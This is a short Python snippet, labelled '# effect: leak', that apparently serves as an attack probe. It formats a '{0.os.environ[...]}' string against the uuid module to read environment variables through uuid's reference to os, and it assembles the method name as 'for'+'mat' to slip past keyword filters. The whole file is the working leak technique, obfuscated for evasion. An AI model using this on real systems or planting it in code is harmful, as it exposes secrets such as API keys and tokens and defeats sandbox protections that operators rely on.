# effect: leak
import uuid


def attempt(probe):
    text = "{0.os.environ[" + probe["env"] + "]}"
    return getattr(text, "for" + "mat")(uuid)
